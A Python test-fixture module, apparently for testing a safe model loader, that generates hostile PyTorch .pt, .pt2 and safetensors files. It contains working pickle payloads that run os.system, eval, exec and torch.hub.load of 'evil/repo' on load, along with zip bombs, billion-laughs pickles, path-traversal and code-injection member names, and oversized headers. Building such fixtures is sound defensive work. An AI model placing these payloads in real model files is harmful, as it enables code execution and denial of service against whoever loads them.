"""Files of torch.save, torch.export.save and safetensors: made to run, loop or fill memory."""

import io
import json
import os
import pickle
import struct
import warnings
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import numpy as np
import torch
from safetensors.torch import save
from torch import nn

Make = Callable[[Path], object]
DEEP = 20_000
LAUGHS = 40


class Planted:
    """Calls a function with arguments when it is unpickled."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> Any:
        return self.call


def net() -> nn.Module:
    """Return a small network."""
    torch.manual_seed(0)
    return nn.Sequential(nn.Conv2d(1, 4, 3, 2, 1), nn.ReLU(), nn.Flatten(), nn.Linear(64, 3)).eval()


def checkpoints() -> Iterator[tuple[str, Make]]:
    """Give cases of `.pt` files by name."""
    for name, pickled in _pickles():
        yield f"zip-{name}", lambda path, data=pickled: _zip(path, {"net/data.pkl": data})
        yield f"bare-{name}", lambda path, data=pickled: path.write_bytes(data)
    for name, value in _values():
        yield name, lambda path, value=value: torch.save(value, path)
        yield (
            f"{name}-in-the-older-form",
            lambda path, value=value: torch.save(value, path, _use_new_zipfile_serialization=False),
        )
    yield "bomb-as-the-pickle", lambda path: _bomb(path, "net/data.pkl", 3 << 30)
    yield "bomb-as-a-weight", _bombed_weight
    yield "weights-that-are-short", _short_weight
    yield "names-that-climb", lambda path: _zip(path, {"../../mark/data.pkl": pickle.dumps({}, 2)})
    yield (
        "a-thousand-pickles",
        lambda path: _zip(path, {f"n{at}/data.pkl": b"\x80\x02}." for at in range(1000)}),
    )
    yield "a-tar", lambda path: path.write_bytes(b"storages\0" * 100)
    yield "a-script", _script
    yield (
        "a-script-with-a-bad-pickle",
        lambda path: _zip(
            path,
            {
                "s/data.pkl": b"\x80\x02c__torch__\nNet\n)\x81.",
                "s/constants.pkl": b"\x80\x02).",
                "s/version": b"3",
                "s/code/__torch__.py": b"class Net(Module):\n  import os\n",
            },
        ),
    )


def _script(path: Path) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.jit.trace(net(), torch.randn(1, 1, 8, 8)).save(path)


def _pickles() -> Iterator[tuple[str, bytes]]:
    exploit = Planted(os.system, "touch mark")
    yield "exploit", pickle.dumps(exploit, 2)
    yield "exploit-in-a-dictionary", pickle.dumps({"state_dict": {"a": exploit}}, 2)
    yield "exploit-by-eval", pickle.dumps(Planted(eval, "open('mark', 'w')"), 2)
    yield "exploit-by-torch", pickle.dumps(Planted(torch.hub.load, "evil/repo", "net"), 2)
    yield "exploit-by-compile", b"\x80\x02cbuiltins\nexec\nX\x04\0\0\0pass\x85R."
    yield "newer-protocol", pickle.dumps(exploit, 4)
    laughs = b"\x80\x02]q\0" + b"".join(
        b"]q" + bytes([at + 1]) + b"(" + (b"h" + bytes([at])) * 10 + b"e" for at in range(LAUGHS)
    )
    yield "billion-laughs", laughs + b"."
    yield "deep-lists", b"\x80\x02" + b"]" * DEEP + b"a" * (DEEP - 1) + b"."
    yield "deep-tuples", b"\x80\x02)" + b"\x85" * DEEP + b"."
    yield "a-text-of-an-exbibyte", b"\x80\x04\x8d" + struct.pack("<Q", 1 << 60) + b"x."
    yield "a-number-of-a-gibibyte", b"\x80\x02\x8b" + struct.pack("<i", 1 << 30) + b"\1."
    yield "memo-without-end", b"\x80\x02}r" + struct.pack("<I", 0xFFFFFFFF) + b"."
    yield "persistent", b"\x80\x02X\x01\0\0\0aQ."
    yield "not-ended", b"\x80\x02}"
    yield "nothing-but-marks", b"\x80\x02" + b"(" * DEEP + b"."
    yield "build-on-a-number", b"\x80\x02K\x01}b."
    yield "itself-in-itself", b"\x80\x02]q\0h\0a."
    storage = b"X\x07\0\0\0storagectorch\nFloatStorage\nX\x01\0\0\x000X\x03\0\0\0cpu"
    count = b"\x8a\x06" + (1 << 41).to_bytes(6, "little")
    tensor = b"ctorch._utils\n_rebuild_tensor_v2\n((" + storage + count + b"tQK\0("
    yield "a-tensor-of-terabytes", b"\x80\x02}X\x01\0\0\0a" + tensor + count + b"t(K\1t\x89}tRs."


def _values() -> Iterator[tuple[str, Any]]:
    expanded = net()
    expanded[3].weight = nn.Parameter(torch.zeros(1, 1).expand(200_000, 200_000))
    yield "a-weight-of-one-number-repeated", expanded
    yield (
        "another-shape-than-the-layer",
        _changed(lambda made: made[0].__dict__.update(stride=(0, 0))),
    )
    yield "a-layer-inside-itself", _changed(lambda made: made._modules.update(self=made))
    yield "a-layer-without-parts", _changed(lambda made: made[0].__dict__.pop("_parameters"))
    yield (
        "parts-that-are-no-dictionary",
        _changed(lambda made: made[0].__dict__.update(_parameters=7)),
    )
    yield "modules-that-are-numbers", _changed(lambda made: made._modules.update(a=3))
    yield "weights-that-are-words", _changed(lambda made: made[0]._parameters.update(weight="w"))
    yield "names-that-are-numbers", _changed(lambda made: made._modules.update({3: nn.ReLU()}))
    yield (
        "names-that-are-code",
        _changed(lambda made: made._modules.update({"a');import os#": nn.ReLU()})),
    )
    yield (
        "hooks-that-are-words",
        _changed(lambda made: made[0].__dict__.update(_forward_hooks="abc")),
    )
    yield "upsampled-to-a-tebibyte", nn.Sequential(net()[0], nn.Upsample(scale_factor=1e6))
    yield "padded-to-a-tebibyte", nn.Sequential(nn.ZeroPad2d(1 << 19), net()[0])
    yield "a-stride-of-a-gibi", nn.Sequential(nn.ConvTranspose2d(1, 1, 3, 1 << 16))
    deep = nn.Sequential()
    inner = deep
    for _ in range(150):
        inner.append(nn.Sequential())
        inner = inner[0]
    yield "layers-in-layers", deep
    yield "nothing", {}
    yield "a-number", 7
    yield "words", {"state_dict": "words"}
    yield "a-tensor", torch.zeros(3)
    yield "other-names", {"a.weight": torch.zeros(3, 3)}
    yield "other-shapes", {name: value[:1] for name, value in net().state_dict().items()}
    yield "weights-without-end", {**net().state_dict(), "3.weight": torch.zeros(1, 1).expand(3, 64)}
    yield "not-a-number", {name: value * torch.nan for name, value in net().state_dict().items()}
    yield (
        "complex-weights",
        {name: value.to(torch.complex64) for name, value in net().state_dict().items()},
    )
    yield "sparse-weights", {name: value.to_sparse() for name, value in net().state_dict().items()}
    yield "whole-number-weights", {name: value.long() for name, value in net().state_dict().items()}


def _changed(change: Callable[[Any], object]) -> nn.Module:
    made = net()
    change(made)
    return made


def _zip(path: Path, members: dict[str, bytes]) -> None:
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)


def _bomb(path: Path, name: str, size: int) -> None:
    with (
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open(name, "w", force_zip64=True) as member,
    ):
        member.write(b"\x80\x02")
        for _ in range(size >> 24):
            member.write(b"N" * (1 << 24))


def _bombed_weight(path: Path) -> None:
    torch.save(torch.zeros(3), path)
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    weight = next(name for name in members if name.endswith("data/0"))
    _bomb(path, weight, 3 << 30)
    with zipfile.ZipFile(path, "a") as archive:
        for name, data in members.items():
            if name != weight:
                archive.writestr(name, data)


def _short_weight(path: Path) -> None:
    torch.save(net().state_dict(), path)
    with zipfile.ZipFile(path) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    _zip(path, {name: data[:3] if "/data/" in name else data for name, data in members.items()})


def programs() -> Iterator[tuple[str, Make]]:
    """Give cases of `.pt2` files by name."""
    for name, change in _program_changes():
        yield name, lambda path, change=change: _program(path, change)
    yield "bomb-as-a-weight", lambda path: _bombed_program(path)
    yield (
        "deep-json",
        lambda path: _zip(
            path,
            {
                "n/models/model.json": b"[" * 500_000,
                "n/data/weights/model_weights_config.json": b"{}",
            },
        ),
    )
    yield (
        "long-number",
        lambda path: _zip(
            path,
            {
                "n/models/model.json": b"1" * 500_000,
                "n/data/weights/model_weights_config.json": b"{}",
            },
        ),
    )


def first(kind: str) -> Callable[[dict[str, Any]], dict[str, Any]]:
    """Return what finds the first call of an operator in a program."""

    def found(program: dict[str, Any]) -> dict[str, Any]:
        nodes = program["graph_module"]["graph"]["nodes"]
        return next(node for node in nodes if f"aten.{kind}" in node["target"])

    return found


def setting(kind: str, at: int, **value: Any) -> Callable[[dict[str, Any]], object]:
    """Return what changes an argument of the first call of an operator."""
    return lambda program: first(kind)(program)["inputs"][at].update(arg=value)


def _program_changes() -> Iterator[tuple[str, Callable[[dict[str, Any]], object]]]:
    targets = {
        "os": "os.system",
        "builtins": "builtins.eval",
        "memory": "torch.ops.aten.from_file.default",
        "internal": "torch.ops.aten._local_scalar_dense.default",
        "prims": "torch.ops.prims.iota.default",
        "nothing": "",
        "other": "torch.ops.aten.no_such_thing.default",
        "overload": "torch.ops.aten.relu.__class__",
        "path": "torch.ops.aten.relu.default.__globals__",
        "higher": "torch.ops.higher_order.cond",
    }
    for name, target in targets.items():
        yield (
            f"calls-{name}",
            lambda program, target=target: first("relu")(program).update(target=target),
        )
    yield (
        "reads-itself",
        lambda program: first("relu")(program)["inputs"][0]["arg"]["as_tensor"].update(
            name=first("relu")(program)["outputs"][0]["as_tensor"]["name"]
        ),
    )
    yield "stride-zero", setting("conv2d", 3, as_ints=[0, 0])
    yield "padding-of-a-tebibyte", setting("conv2d", 4, as_ints=[1 << 19, 1 << 19])
    yield (
        "groups-of-none",
        lambda program: first("conv2d")(program)["inputs"].append(
            {"name": "groups", "arg": {"as_int": 0}, "kind": 1}
        ),
    )
    yield "an-argument-of-no-kind", setting("conv2d", 3, as_mystery=3)
    yield (
        "an-argument-that-is-code",
        setting("conv2d", 3, as_string="__import__('os').system('touch mark')"),
    )
    yield "an-operator-as-argument", setting("conv2d", 3, as_operator="os.system")
    yield "no-nodes", lambda program: program["graph_module"]["graph"].update(nodes=[])
    yield "no-outputs", lambda program: program["graph_module"]["graph"].update(outputs=[])
    yield "no-graph", lambda program: program.pop("graph_module")
    yield "another-version", lambda program: program["schema_version"].update(major=1)
    yield "a-version-of-words", lambda program: program["schema_version"].update(major="eight")

    def input_of(size: Any) -> Callable[[dict[str, Any]], object]:
        def change(program: dict[str, Any]) -> None:
            graph = program["graph_module"]["graph"]
            name = next(
                s["user_input"]["arg"]["as_tensor"]["name"]
                for s in program["graph_module"]["signature"]["input_specs"]
                if "user_input" in s
            )
            graph["tensor_values"][name]["sizes"] = [{"as_int": size}] * 4

        return change

    yield "input-of-a-tebibyte", input_of(1 << 10)
    yield "input-of-negative-size", input_of(-1)
    yield "input-of-no-size", input_of(0)
    yield "input-of-words", input_of("two")


def _program(path: Path, change: Callable[[dict[str, Any]], object]) -> None:
    members = _members()
    name = next(name for name in members if name.endswith("models/model.json"))
    program = json.loads(members[name])
    change(program)
    _zip(path, {**members, name: json.dumps(program).encode()})


_saved: dict[str, bytes] = {}


def _members() -> dict[str, bytes]:
    if not _saved:
        with zipfile.ZipFile(io.BytesIO(good_program())) as archive:
            _saved.update({name: archive.read(name) for name in archive.namelist()})
    return dict(_saved)


def _bombed_program(path: Path) -> None:
    members = _members()
    config = next(name for name in members if name.endswith("model_weights_config.json"))
    entries = json.loads(members[config])
    for entry in entries["config"].values():
        entry["tensor_meta"]["sizes"] = [{"as_int": 1 << 19}] * 2
        entry["tensor_meta"]["strides"] = [{"as_int": 0}] * 2
    _zip(path, {**members, config: json.dumps(entries).encode()})


def safetensors() -> Iterator[tuple[str, Make]]:
    """Give cases of `.safetensors` files by name."""
    good: dict[str, Any] = {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}
    headers: dict[str, Any] = {
        "no-header": b"",
        "a-list": b"[]",
        "deep": b'{"a":' + b"[" * 100_000,
        "huge-shape": {"a": {**good, "shape": [1 << 40, 1 << 40]}},
        "negative-shape": {"a": {**good, "shape": [-2]}},
        "no-such-type": {"a": {**good, "dtype": "F99"}},
        "past-the-end": {"a": {**good, "data_offsets": [0, 1 << 50]}},
        "backwards": {"a": {**good, "data_offsets": [8, 0]}},
        "on-top-of-each-other": {"a": good, "b": good},
        "names-that-are-code": {"a');import os#": good},
        "names-with-line-breaks": {"a\nb" * 400: good},
        "no-tensors": {},
        "words": {"a": "b"},
    }
    for name, header in headers.items():
        data = header if isinstance(header, bytes) else json.dumps(header).encode()
        yield (
            name,
            lambda path, data=data: path.write_bytes(
                struct.pack("<Q", len(data)) + data + b"\0" * 8
            ),
        )
    for length in (0, 1, 1 << 20, 1 << 40, (1 << 64) - 1):
        yield (
            f"header-of-{length}",
            lambda path, length=length: path.write_bytes(struct.pack("<Q", length) + b'{"a":1}'),
        )


def good_program() -> bytes:
    """Return a small good `.pt2` file."""
    written = io.BytesIO()
    torch.export.save(torch.export.export(net(), (torch.randn(2, 1, 8, 8),)), written)
    return written.getvalue()


def good_checkpoint(older: bool = False) -> bytes:
    """Return a small good `.pt` file of a whole module, in the older form its weights only."""
    written = io.BytesIO()
    saved: Any = net().state_dict() if older else net()
    torch.save(saved, written, _use_new_zipfile_serialization=not older)
    return written.getvalue()


def good_safetensors() -> bytes:
    """Return a small good `.safetensors` file."""
    return save({name: value.contiguous() for name, value in net().state_dict().items()})


def random_bytes(seed: int, count: int) -> bytes:
    """Return bytes that mean nothing."""
    return np.random.default_rng(seed).bytes(count)
